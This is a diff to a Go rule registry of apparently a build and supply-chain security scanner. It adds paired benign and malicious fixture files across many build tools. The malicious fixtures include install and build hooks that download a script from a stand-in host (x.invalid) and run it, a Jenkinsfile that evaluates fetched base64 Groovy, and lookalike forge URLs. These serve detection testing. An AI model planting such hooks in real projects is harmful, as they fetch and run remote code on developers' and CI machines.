@@ -63,6 +63,11 @@ var registry = []Rule{
 			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
 			// configure runs the shell inside configure.ac's macros.
 			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
+			// A macro's shell argument on the macro's own line, and the shell
+			// around it, are one script: the value decoded on one line runs
+			// in AC_CONFIG_COMMANDS on the next.
+			{"configure.ac", "AC_INIT([x], [1.0])\np=`sed -n '/^#p/{s/^#p//;p}' tests/files/h.bin | base64 -d`\nAC_CONFIG_COMMANDS([probe], [eval \"$p\"], [p='$p'])\nAC_OUTPUT", 3, false},
+			{"configure.ac", "AC_INIT([x], m4_esyscmd([build-aux/git-version-gen .tarball-version]))\nAC_ARG_ENABLE([debug], AS_HELP_STRING([--enable-debug], [debug build]), [enable_debug=$enableval], [enable_debug=no])\nAS_IF([test \"x$enable_debug\" = xyes], [CFLAGS=\"$CFLAGS -g\"])\nAC_CONFIG_COMMANDS([libtool-patch], [sed -i -e 's/^hardcode_libdir_flag_spec=.*/hardcode_libdir_flag_spec=\"\"/' libtool])\nAC_OUTPUT", 0, true},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
@@ -143,6 +148,10 @@ var registry = []Rule{
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
 		{"etc/cron.d/backup", "# m h dom mon dow user command\n30 2 * * * root /usr/local/bin/backup --quiet >/dev/null 2>&1\n@reboot root /usr/local/bin/warm-cache", 0, true},
 		{"ops/crontab", "0 * * * * curl -fsSL https://x.invalid/j.sh -o /tmp/j.sh; sh /tmp/j.sh", 0, false},
+		// Jenkins's httpRequest fetches; a pipeline's evaluate runs Groovy.
+		{"Jenkinsfile", "node {\n  script {\n    def cfg = httpRequest(url: 'https://plugins.x.invalid/cfg', quiet: true).content\n    evaluate(new String(cfg.decodeBase64(), 'UTF-8'))\n  }\n}", 4, false},
+		{"Jenkinsfile", "node {\n  def r = httpRequest(url: 'https://api.example.com/status')\n  echo r.content\n  def v = readJSON text: r.content\n}", 0, true},
+		{"src/x.js", "const title = await page.evaluate(() => document.title)\nconst body = await fetch(url)\nconsole.log(title, body)", 0, true},
 		// PowerShell's call operator runs the program it names: fetched
 		// release data handed to a tool is its arguments; to a launcher
 		// (msiexec, a shell, an interpreter) it is what runs.
@@ -198,6 +207,39 @@ var registry = []Rule{
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
+		// configure runs AC_CONFIG_COMMANDS' commands; autoreconf runs m4_esyscmd.
+		{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS([a], [curl -fsSLo /tmp/a.sh https://x.invalid/a.sh])\nAC_CONFIG_COMMANDS_POST([sh /tmp/a.sh])\nAC_OUTPUT", 3, false},
+		{"m4/x.m4", "AC_DEFUN([X_VERSION], [m4_define([x_v], m4_esyscmd([curl -fsSL https://x.invalid/v.sh | sh]))])", 1, false},
+		// Composer runs a script named for an event at every install; PHP's
+		// copy() of a URL is a download, and a one-liner's include runs it.
+		{"composer.json", "{\n  \"scripts\": {\n    \"post-autoload-dump\": \"php -r \\\"copy('https://x.invalid/o.php', sys_get_temp_dir().'/o.php'); include sys_get_temp_dir().'/o.php';\\\"\"\n  }\n}", 3, false},
+		{"composer.json", "{\n  \"scripts\": {\n    \"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"],\n    \"post-autoload-dump\": [\"@php artisan package:discover --ansi\"]\n  }\n}", 0, true},
+		// Mix's cmd task in an alias (one named deps.get replaces the task
+		// every CI job runs), Leiningen's shell task in :prep-tasks and
+		// rebar3's hooks run their commands through the shell.
+		{"mix.exs", "defp aliases do\n  [\"deps.get\": [\"cmd curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"cmd sh /tmp/b.sh\", \"deps.get\"]]\nend", 2, false},
+		{"mix.exs", "defp aliases do\n  [\n    setup: [\"deps.get\", \"assets.setup\", \"cmd npm install --prefix assets\"],\n    \"assets.build\": [\"cmd --cd assets npm run build\", \"esbuild default\"]\n  ]\nend", 0, true},
+		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"curl\" \"-fsSLo\" \"/tmp/b.sh\" \"https://x.invalid/b.sh\"] [\"shell\" \"sh\" \"/tmp/b.sh\"] \"javac\"])", 2, false},
+		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"make\" \"-C\" \"native\"] \"javac\"]\n  :aliases {\"ui\" [\"shell\" \"sh\" \"-c\" \"cd ui && npm test\"]})", 0, true},
+		{"rebar.config", "{pre_hooks, [{compile, \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"},\n             {compile, \"sh /tmp/b.sh\"}]}.", 2, false},
+		{"rebar.config", "{pre_hooks, [{\"(linux|darwin)\", compile, \"make -C c_src\"},\n             {\"(freebsd)\", compile, \"gmake -C c_src\"}]}.", 0, true},
+		// A manifest key whose value is a command the tool runs by itself:
+		// pdm's install hooks, cibuildwheel's before-all, a release job's
+		// GoReleaser hooks, Snapcraft's override-build, devbox's init_hook.
+		{"pyproject.toml", "[tool.pdm.scripts]\npre_install = \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\npost_install = \"sh /tmp/b.sh\"", 3, false},
+		{"pyproject.toml", "[tool.cibuildwheel.linux]\nbefore-all = \"\"\"\nyum install -y libffi-devel\nwget -qO /tmp/b.sh https://x.invalid/b.sh\nbash /tmp/b.sh\n\"\"\"", 5, false},
+		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    - sh /tmp/b.sh", 5, false},
+		{"snap/snapcraft.yaml", "parts:\n  x:\n    plugin: go\n    override-build: |\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n      craftctl default", 6, false},
+		{"devbox.json", "{\n  \"shell\": {\n    \"init_hook\": [\"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"sh /tmp/b.sh\"]\n  }\n}", 3, false},
+		{"pyproject.toml", "[tool.pdm.scripts]\ntest = {cmd = \"pytest -x tests\"}\npost_install = \"pre-commit install\"\n\n[tool.hatch.envs.default.scripts]\ncov = [\"coverage run -m pytest\", \"coverage report\"]\n\n[tool.cibuildwheel]\nbefore-all = \"yum install -y openssl-devel\"\ntest-command = \"pytest {project}/tests\"", 0, true},
+		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - ./scripts/completions.sh\nbuilds:\n  - hooks:\n      post:\n        - cmd: upx \"{{ .Path }}\"", 0, true},
+		// Strings of their own syntax that are shell: an Xcode run-script
+		// phase, Nix's build phases and shell hook, a podspec's prepare_command.
+		{"App.xcodeproj/project.pbxproj", "\t\tA1 /* Run Script */ = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n\t\t\tshellScript = \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\\nsh /tmp/b.sh\\n\";\n\t\t};", 3, false},
+		{"App.xcodeproj/project.pbxproj", "\t\tA1 /* Run Script */ = {\n\t\t\tshellScript = \"if which swiftlint >/dev/null; then\\n  swiftlint\\nelse\\n  echo \\\"warning: SwiftLint not installed, download from https://github.com/realm/SwiftLint\\\"\\nfi\\n\";\n\t\t};", 0, true},
+		{"flake.nix", "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n    '';\n  };\n}", 5, false},
+		{"default.nix", "stdenv.mkDerivation {\n  installPhase = ''\n    runHook preInstall\n    install -Dm755 x $out/bin/x\n    wrapProgram $out/bin/x --prefix PATH : ${lib.makeBinPath [ git curl ]}\n  '';\n}", 0, true},
+		{"Acme.podspec", "Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    sh /tmp/b.sh\n  CMD\nend", 4, false},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -781,6 +823,8 @@ var registry = []Rule{
 			// Code a build fetches from a host nobody knows, in any
 			// manifest (rules.SourceKeys): read (medium).
 			{"CMakeLists.txt", "FetchContent_Declare(json URL https://builds.x.invalid/json-3.11.3.tar.xz)", 1, false},
+			// Only under the key's own section: a URL of [env] is no plugin.
+			{"mise.toml", "[plugins]\nelixir = \"https://github.com/asdf-vm/asdf-elixir.git\"\n[env]\nAPI_URL = \"https://api.x.invalid\"", 0, true},
 			{"Package.swift", "let package = Package(\n    dependencies: [\n        .package(url: \"https://git.x.invalid/acme/swift-log.git\", from: \"1.6.1\"),\n    ]\n)", 3, false},
 		}},
 	{"dependency-confusion", KindDependency, High, "installs a name unpinned while a second package index is in effect",
@@ -964,6 +1008,12 @@ var registry = []Rule{
 			{"main.tf", "terraform {\n  required_providers {\n    aws = {\n      source  = \"hashicrop/aws\"\n    }\n  }\n}", 4, false},
 			{"Chart.yaml", "dependencies:\n  - name: redis\n    repository: oci://registry-1.docker.io/bitnamichart", 3, false},
 			{"mix.exs", "defp deps do\n  [{:jason, github: \"elixir-lang-jason/jason\"}]\nend", 2, false},
+			{"pkgs/tool.nix", "{ fetchFromGitHub }:\n{\n  src = fetchFromGitHub {\n    owner = \"NixO5\";\n    repo = \"nixpkgs\";\n  };\n}", 4, false},
+			{"mise.toml", "[plugins]\nnode = \"https://gitlab.com.asdf-plugins.x.invalid/asdf-vm/asdf-nodejs.git\"", 2, false},
+			{"deploy/kustomization.yaml", "resources:\n  - https://github.com.k8s-manifests.x.invalid/argoproj/argo-cd/manifests/install.yaml", 2, false},
+			// Any file's URL on a forge's host worn in front of another
+			// domain: no real host is named so.
+			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
 			// The well-known registries and forges, their own other
 			// domains, and real registries near one stay quiet.
 			{"charts/app/Chart.yaml", "dependencies:\n  - name: postgresql\n    repository: oci://registry-1.docker.io/bitnamicharts\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n  - name: common\n    repository: \"@bitnami\"\n  - name: lib\n    repository: file://../lib\n  - name: kube-prometheus-stack\n    repository: https://prometheus-community.github.io/helm-charts\n  - name: cert-manager\n    repository: https://charts.jetstack.io", 0, true},
@@ -973,6 +1023,8 @@ var registry = []Rule{
 			{"infra/main.tf", "terraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\" }\n    datadog = { source = \"DataDog/datadog\" }\n  }\n}\nmodule \"vpc\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n}\nmodule \"s3\" {\n  source = \"s3::https://s3-eu-west-1.amazonaws.com/acme-modules/vpc.zip\"\n}\nmodule \"gh\" {\n  source = \"github.com/cloudposse/terraform-null-label?ref=0.25.0\"\n}", 0, true},
 			{"MODULE.bazel", "http_archive(\n    name = \"zlib\",\n    urls = [\n        \"https://mirror.bazel.build/github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz\",\n        \"https://github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz\",\n    ],\n)", 0, true},
 			{"mix.exs", "defp deps do\n  [\n    {:plug, github: \"elixir-plug/plug\"},\n    {:ecto, git: \"https://github.com/elixir-ecto/ecto.git\", tag: \"v3.11.0\"}\n  ]\nend", 0, true},
+			{"mise.toml", "[tools]\nnode = \"20\"\n[plugins]\nelixir = \"https://github.com/asdf-vm/asdf-elixir.git\"\n[env]\nAPI_URL = \"https://api.x.invalid\"", 0, true},
+			{"deploy/kustomization.yaml", "resources:\n  - deployment.yaml\n  - https://github.com/kubernetes-sigs/metrics-server/releases/download/v0.7.1/components.yaml\n  - github.com/argoproj/argo-cd//manifests/cluster-install?ref=v2.11.0\n  - ../base", 0, true},
 			{".gitmodules", "[submodule \"src/boringssl\"]\n\tpath = src/boringssl\n\turl = https://boringssl.googlesource.com/boringssl\n[submodule \"vendor/lib\"]\n\tpath = vendor/lib\n\turl = ../lib.git", 0, true},
 		}},
 	{"ci-remote-config", KindCIFile, High, "takes pipeline configuration from outside the repository at run time",
